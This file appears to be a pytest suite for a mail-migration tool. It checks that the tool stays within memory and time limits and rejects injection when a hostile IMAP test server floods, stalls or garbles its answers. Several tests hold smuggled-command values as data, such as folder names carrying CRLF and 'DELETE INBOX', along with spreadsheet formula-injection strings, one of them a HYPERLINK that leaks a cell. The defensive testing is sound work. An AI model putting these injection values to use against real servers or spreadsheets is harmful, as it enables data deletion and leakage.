"""A hostile or broken source cannot hurt the migration (bounded memory and time, no injection).

The source is ``mailtrek.devtools.hostile_imap`` (a real server on loopback that misbehaves
on purpose); the destination a real Dovecot. ``mailtrek copy`` runs as a subprocess so its
exit code, its stderr and its peak RSS are what a user gets. The caps are lowered through
their environment variables so each flood ends in a second or two; `bench/hostile_bench.py`
measures the defaults.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import os
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from imap_helpers import dump, load, store
from mailtrek.devtools.hostile_imap import MESSAGE, HostileImap
from mailtrek.devtools.measure import Measured, run_measured
from mailtrek.errors import ProtocolError
from mailtrek.model import FolderInfo
from mailtrek.stores.imap.connection import ConnectParams, Credentials, ImapConnection
from mailtrek.stores.imap.limits import Limits
from mailtrek.stores.imap.store import ImapSettings, ImapStore
from mailtrek.stores.imap.wire import parse_values, quote

pytestmark = pytest.mark.timeout(120)
SMALL_CAPS = {"MAILTREK_IMAP_MAX_RESPONSES": "20000", "MAILTREK_IMAP_MAX_RESPONSE_BYTES": "4000000"}


def copy_from(srv: HostileImap, dst_inst, dst, tmp_path: Path, *extra: str,
              env: dict[str, str] | None = None) -> Measured:
    """Run `mailtrek copy` from ``srv`` into the Dovecot user ``dst``; measure it."""
    full = dict(os.environ, MAILTREK_SOURCE_PASSWORD="x", MAILTREK_DEST_PASSWORD=dst[1],
                MAILTREK_HOME=str(tmp_path / "home"), **(env or {}))
    return run_measured(
        [sys.executable, "-m", "mailtrek", "copy", f"imap://victim@127.0.0.1:{srv.port}",
         f"imap://{dst[0]}@127.0.0.1:{dst_inst.port}", "--state", str(tmp_path / "state.db"),
         *extra], full, timeout=100)


def one_error_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.startswith("mailtrek: error:")]
    assert len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


@pytest.mark.parametrize(("attack", "env", "expect"), [
    ("huge-literal", {}, "announced a literal of 3,000,000,000 bytes"),
    ("list-flood", SMALL_CAPS, "more than 20,000 responses to one LIST command"),
    ("fetch-flood", SMALL_CAPS, "more than 20,000 responses to one UID FETCH command"),
    ("deep-parens", {}, "nests lists deeper than 256 levels"),
    ("drip", {"MAILTREK_IMAP_COMMAND_TIMEOUT": "2"}, "did not finish a UID FETCH command within 2 s"),
])
def test_a_hostile_source_ends_the_copy_with_one_line(attack, env, expect, dovecot_dst, dst_user,
                                                      tmp_path) -> None:
    with HostileImap(attack, drip_every=0.2) as srv:
        r = copy_from(srv, dovecot_dst, dst_user, tmp_path, env=env)
    assert r.code == 5, r.stderr
    assert expect in one_error_line(r.stderr)
    assert r.seconds < 60 and r.peak_mb < 300, (r.seconds, r.peak_mb)


def test_folder_names_smuggle_no_command(dovecot_dst, dst_user, tmp_path) -> None:
    """`Evil\\r\\nX1 DELETE INBOX...` is refused and reported; `..` is renamed; nothing smuggled."""
    with HostileImap("inject-folder") as srv:
        r = copy_from(srv, dovecot_dst, dst_user, tmp_path)
        lines = list(srv.lines)
    assert r.code == 1, r.stdout + r.stderr
    assert "Evil\\r\\nX1 DELETE INBOX\\r\\nX2 CREATE pwned: not copied" in r.stdout
    assert "Ghost\\r\\nX3 RENAME INBOX pwned2: not copied" in r.stdout
    assert not any(word in line for line in lines for word in (b"DELETE", b"RENAME", b"pwned"))
    folders = asyncio.run(dump(dovecot_dst, *dst_user))
    assert set(folders) == {("INBOX",), ("_..",)}  # INBOX intact, `..` renamed, no `pwned`
    assert len(folders[("INBOX",)]) == 1


def test_a_login_refused_for_now_is_asked_again(dovecot_dst, dst_user, tmp_path) -> None:
    """LOGIN answered NO [UNAVAILABLE] once (Dovecot's busy auth process): logged in again."""
    with HostileImap("unavailable-once") as srv:
        r = copy_from(srv, dovecot_dst, dst_user, tmp_path)
        refused = srv.refused_logins
    assert refused == 1
    assert r.code == 0, r.stdout + r.stderr
    assert len(asyncio.run(dump(dovecot_dst, *dst_user))[("INBOX",)]) == 1


def test_a_folder_the_server_cannot_open_just_now_is_retried(dovecot_dst, dst_user, tmp_path) -> None:
    """SELECT refused with [SERVERBUG] once (a loaded Dovecot): the pass is retried, nothing lost."""
    with HostileImap("serverbug-once") as srv:
        r = copy_from(srv, dovecot_dst, dst_user, tmp_path)
        refused = srv.refused_selects
    assert refused == 1
    assert r.code == 0, r.stdout + r.stderr
    [(digest, _flags, _date)] = asyncio.run(dump(dovecot_dst, *dst_user))[("INBOX",)]
    assert digest == hashlib.sha256(MESSAGE).hexdigest()


def test_quote_never_sends_a_line_break() -> None:
    for bad in (b"a\r\nA1 DELETE INBOX", b"a\nb", b"a\rb", b"a\0b"):
        with pytest.raises(ProtocolError, match="CR, LF or NUL"):
            quote(bad)
    assert quote(b'a "b" \\c') == b'"a \\"b\\" \\\\c"'


def test_a_message_bigger_than_it_was_listed_is_skipped_not_held(dovecot_dst, dst_user,
                                                                 tmp_path) -> None:
    """Listed as 90 bytes, 20 MB streamed: skipped (exit 1), never held or stored."""
    with HostileImap("oversize-body", body_bytes=20 << 20) as srv:
        r = copy_from(srv, dovecot_dst, dst_user, tmp_path, "--max-size", "1MB")
    assert r.code == 1, r.stdout + r.stderr
    assert "the source sent 20,971,520 bytes for a message it listed as 90" in r.stdout
    assert r.peak_mb < 150, r.peak_mb
    assert asyncio.run(dump(dovecot_dst, *dst_user)) == {("INBOX",): []}


@pytest.mark.parametrize(("attack", "expect"), [
    ("bad-quoted", "sent a malformed answer to LIST: unterminated quoted string"),
    ("bad-uid", "sent a malformed answer to UID FETCH: UID is not a number: b'abc'"),
])
async def test_garbled_answers_are_protocol_errors(attack, expect) -> None:
    with HostileImap(attack) as srv:
        st = _store(srv.port)
        await st.connect()
        try:
            with pytest.raises(ProtocolError, match=expect):
                folders = await st.list_folders()
                await st.list_messages(folders[0])
        finally:
            await st.close()


async def test_the_literal_cap_counts_bytes_as_they_arrive() -> None:
    """A body over the command's limit is read past, never kept; the connection goes on."""
    with HostileImap("oversize-body", body_bytes=3 << 20) as srv:
        st = _store(srv.port)
        await st.connect()
        try:
            inbox = FolderInfo(("INBOX",))
            [msg] = [m async for m in st.fetch(inbox, [1], max_size=1 << 20)]
            assert msg.raw == b"" and msg.extra["too_large"] == 3 << 20
            [whole] = [m async for m in st.fetch(inbox, [1])]  # no limit: the bytes come
            assert len(whole.raw) == 3 << 20
        finally:
            await st.close()


def starttls_server(attack: str, tmp_path: Path) -> tuple[HostileImap, ImapConnection]:
    """A hostile server offering STARTTLS with a fresh certificate, and a client for it."""
    from mailtrek.devtools.dovecot import write_self_signed_cert

    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    write_self_signed_cert(cert, key)
    srv = HostileImap(attack, cert=cert, key=key).start()
    return srv, ImapConnection(ConnectParams("127.0.0.1", srv.port, "starttls", ca_file=str(cert)))


async def test_starttls_asks_for_capabilities_again(tmp_path) -> None:
    """The plaintext greeting's CAPABILITY may be forged: after STARTTLS it is asked anew."""
    srv, conn = starttls_server("starttls-caps", tmp_path)
    try:
        await conn.open()
        assert conn.has("X-AFTER-TLS") and not conn.has("X-BEFORE-TLS")
        assert not conn.has("STARTTLS")
    finally:
        await conn.close()
        srv.stop()


async def test_stripped_starttls_is_refused(tmp_path) -> None:
    from mailtrek.errors import ConnectionFailedError

    srv, conn = starttls_server("no-starttls", tmp_path)
    try:
        with pytest.raises(ConnectionFailedError, match="does not offer STARTTLS"):
            await conn.open()
    finally:
        await conn.close()
        srv.stop()


def test_limits_come_from_the_environment(monkeypatch) -> None:
    from mailtrek.errors import ConfigError

    monkeypatch.setenv("MAILTREK_IMAP_MAX_RESPONSES", "7")
    monkeypatch.setenv("MAILTREK_IMAP_COMMAND_TIMEOUT", "1.5")
    lim = Limits.from_env()
    assert (lim.max_responses, lim.command_timeout, lim.max_response_bytes) == (7, 1.5, 96 << 20)
    monkeypatch.setenv("MAILTREK_IMAP_MAX_RESPONSES", "-1")
    with pytest.raises(ConfigError, match="MAILTREK_IMAP_MAX_RESPONSES"):
        Limits.from_env()


def test_an_unexpected_error_gets_its_own_exit_code_and_a_log(monkeypatch, tmp_path, capsys) -> None:
    """A bug is exit 8 with one line naming the log file, never a traceback ending in exit 1."""
    from mailtrek.cli import copy_cmd
    from mailtrek.cli.main import main

    def boom(*args: object, **kwargs: object) -> None:
        raise KeyError("something we never expected")

    monkeypatch.setattr(copy_cmd, "_options", boom)
    monkeypatch.setenv("MAILTREK_HOME", str(tmp_path))
    monkeypatch.setattr(sys, "argv", ["mailtrek", "copy", "imap://a@h", "imap://b@h"])
    with pytest.raises(SystemExit) as exit_:
        main()
    assert exit_.value.code == 8
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "Traceback" not in err
    assert err.startswith("mailtrek: internal error: KeyError: 'something we never expected'")
    [log] = (tmp_path / "logs").glob("crash-*.log")
    assert str(log) in err and "Traceback" in log.read_text() and "boom" in log.read_text()


# -- the parser ---------------------------------------------------------------------------
def test_parser_has_no_recursion_limit_and_reports_bad_input() -> None:
    assert parse_values([b"(" * 200 + b")" * 200]) != []
    for text, why in ((b"(" * 20000 + b")" * 20000, "deeper than 256"),
                      (b'"ends in \\', "unterminated quoted string"),
                      (b"(a b", "unterminated list"), (b"a )", "unbalanced"),
                      (b"a \r b", "unexpected byte")):
        with pytest.raises(ProtocolError, match=why):
            parse_values([text])


_IMAP_BYTES = st.lists(st.sampled_from([b"(", b")", b" ", b'"', b"\\", b"NIL", b"a", b"1",
                                        b"[", b"]", b"{3}", b"\r", b"~", b"\x00", b"\xff"]),
                       max_size=60).map(b"".join)


@settings(max_examples=400, deadline=None)
@given(text=_IMAP_BYTES | st.binary(max_size=200),
       literal=st.one_of(st.none(), st.binary(max_size=10)))
def test_parser_fuzz_raises_only_protocol_errors(text: bytes, literal: bytes | None) -> None:
    chunks: list[bytes | bytearray] = [text]
    if literal is not None:
        chunks = [text + b" {%d}" % len(literal), literal, b")"]
    with contextlib.suppress(ProtocolError):
        parse_values(chunks)  # type: ignore[arg-type]


def _store(port: int) -> ImapStore:
    return ImapStore(ImapSettings(ConnectParams("127.0.0.1", port, "none", timeout=10),
                                  Credentials("victim", "x"), connections=1))


def test_in_a_batch_a_hostile_source_fails_only_its_own_mailboxes(dovecot_src, dovecot_dst,
                                                                 tmp_path) -> None:
    """`mailtrek run`: the flooding server's user fails with one line; another batch syncs."""
    import imaplib
    import json
    import ssl
    import uuid

    from typer.testing import CliRunner

    from mailtrek.cli.main import app

    home = tmp_path / "home"
    env = dict(os.environ, MAILTREK_HOME=str(home), MAILTREK_LEASE_SECONDS="10", **SMALL_CAPS)

    def cli(*args: str) -> str:  # in process: set-up and reading need no new interpreter
        r = CliRunner().invoke(app, [*args, "--home", str(home)])
        assert r.exit_code == 0, r.output
        return r.output

    def user_csv(name: str, login: str, pw: str) -> Path:
        dovecot_dst.add_user(f"{login}@hostile.test", pw)
        path = tmp_path / f"{name}.csv"
        path.write_text(f"EmailAddress,UserName,Password\n{login}@hostile.test,{login},{pw}\n")
        return path

    good, good_pw = f"g{uuid.uuid4().hex[:8]}", f"pw-{uuid.uuid4().hex[:10]}"
    dovecot_src.add_user(good, good_pw)
    c = imaplib.IMAP4_SSL("127.0.0.1", dovecot_src.ssl_port,
                          ssl_context=ssl.create_default_context(cafile=str(dovecot_src.ca_file)))
    c.login(good, good_pw)
    c.append("INBOX", "", None, b"From: a@x.test\r\nSubject: safe\r\nMessage-ID: <h1@x.test>\r\n\r\nhi\r\n")
    c.logout()
    with HostileImap("list-flood") as srv:
        cli("endpoint", "add", "dst", "--host", "localhost", "--port", str(dovecot_dst.ssl_port),
            "--ca-file", str(dovecot_dst.ca_file))
        cli("endpoint", "add", "good", "--host", "localhost", "--port", str(dovecot_src.ssl_port),
            "--ca-file", str(dovecot_src.ca_file))
        cli("endpoint", "add", "evil", "--host", "127.0.0.1", "--port", str(srv.port),
            "--security", "none")
        cli("batch", "create", "evil", "--endpoint", "evil", "--dest-endpoint", "dst", "--autostart",
            "--csv", str(user_csv("evil", f"e{uuid.uuid4().hex[:8]}", "pw-evil-123456")))
        cli("batch", "create", "good", "--endpoint", "good", "--dest-endpoint", "dst", "--autostart",
            "--csv", str(user_csv("good", good, good_pw)))
        r = run_measured([sys.executable, "-m", "mailtrek", "run", "--until-idle"], env,
                         timeout=100)
    assert r.code == 0, r.stdout + r.stderr
    assert r.seconds < 60 and r.peak_mb < 300, (r.seconds, r.peak_mb)
    evil = json.loads(cli("batch", "show", "evil", "--json"))["users"][0]
    fine = json.loads(cli("batch", "show", "good", "--json"))["users"][0]
    assert evil["status"] == "Failed" and "more than 20,000 responses to one LIST" in evil["error"]
    assert fine["status"] == "Synced" and fine["items_synced"] == 1 and not fine["error"]


def test_reports_disarm_spreadsheet_formulas(tmp_path) -> None:
    """Subjects, folders and errors from outside never run as formulas in the CSV reports."""
    import csv
    import io
    import json

    from sqlalchemy import update

    from mailtrek.orchestrate.batches import create_batch
    from mailtrek.orchestrate.csvfile import UserRow
    from mailtrek.orchestrate.csvsafe import safe_cell
    from mailtrek.orchestrate.endpoints import add_endpoint, make_endpoint
    from mailtrek.orchestrate.home import open_home
    from mailtrek.orchestrate.members import export_failed
    from mailtrek.orchestrate.reports import render_csv, render_skipped_csv
    from mailtrek.state.orchestration import batch_users

    evil = ['=HYPERLINK("http://x.test/?"&A1,"open")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]
    assert [safe_cell(v) for v in evil] == ["'" + v for v in evil]
    assert [safe_cell(v) for v in ("plain", "", 42, -3, None)] == ["plain", "", 42, -3, None]
    home = open_home(tmp_path / "home")
    add_endpoint(home, make_endpoint("src", host="127.0.0.1", port=1))
    add_endpoint(home, make_endpoint("dst", host="127.0.0.1", port=2))
    create_batch(home, "b", endpoint="src", dest_endpoint="dst",
                 users=[UserRow(2, "alice@contoso.test", "alice", "pw-alice-Secret")])
    skipped = [{"folder": "@SUM(A1)", "uid": 1, "subject": evil[0], "date": None, "size": 5,
                "reason": "+SUM(1,2)"}]
    with home.engine.begin() as c:
        c.execute(update(batch_users).values(error="=1+1", skipped_json=json.dumps(skipped),
                                             status="Failed"))
    users = list(csv.DictReader(io.StringIO(render_csv(home, "b"))))
    assert users[0]["error"] == "'=1+1"
    [failed] = list(csv.DictReader(io.StringIO(export_failed(home, "b", with_errors=True))))
    assert (failed["EmailAddress"], failed["Error"]) == ("alice@contoso.test", "'=1+1")
    [row] = list(csv.DictReader(io.StringIO(render_skipped_csv(home, "b"))))
    assert (row["folder"], row["subject"], row["reason"]) == ("'@SUM(A1)", "'" + evil[0], "'+SUM(1,2)")


async def test_fingerprint_listings_are_asked_in_chunks(dovecot_src, src_user, monkeypatch) -> None:
    """Header listings go by UID, LIST_CHUNK at a time: a big folder stays in each budget."""
    from datetime import UTC, datetime

    import mailtrek.stores.imap.store as imap_store

    t0 = datetime(2024, 1, 1, tzinfo=UTC)
    await load(dovecot_src, *src_user, [
        (("INBOX",), b"Subject: m%d\r\nMessage-ID: <c%d@x>\r\n\r\nbody\r\n" % (i, i), frozenset(), t0)
        for i in range(5)])
    monkeypatch.setattr(imap_store, "LIST_CHUNK", 2)
    st = store(dovecot_src, *src_user, connections=1)
    await st.connect()
    try:
        inbox = next(f for f in await st.list_folders() if f.path == ("INBOX",))
        metas = await st.list_messages(inbox, fingerprints=True)
        some = await st.list_messages(inbox, fingerprints=True, uids=[5, 1, 3])
    finally:
        await st.close()
    assert sorted(m.subject for m in metas) == [f"m{i}" for i in range(5)]
    assert all(m.fingerprint for m in metas) and sorted(m.uid for m in some) == [1, 3, 5]
